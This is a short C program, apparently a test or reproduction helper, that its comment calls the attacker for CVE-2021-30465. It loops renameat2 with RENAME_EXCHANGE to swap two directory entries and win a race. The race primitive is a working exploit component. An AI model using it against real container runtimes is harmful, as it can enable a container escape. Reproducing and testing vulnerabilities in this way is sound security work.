/* exchange.c - swaps DIR/a and DIR/b with renameat2(RENAME_EXCHANGE) until it is killed: the attacker of CVE-2021-30465. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
	int dir = argc == 2 ? open(argv[1], O_RDONLY | O_DIRECTORY) : -1;

	if (dir < 0)
		return 2;
	puts("ready");
	fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, dir, "a", dir, "b", 2 /* RENAME_EXCHANGE */) < 0)
			return 1;
}
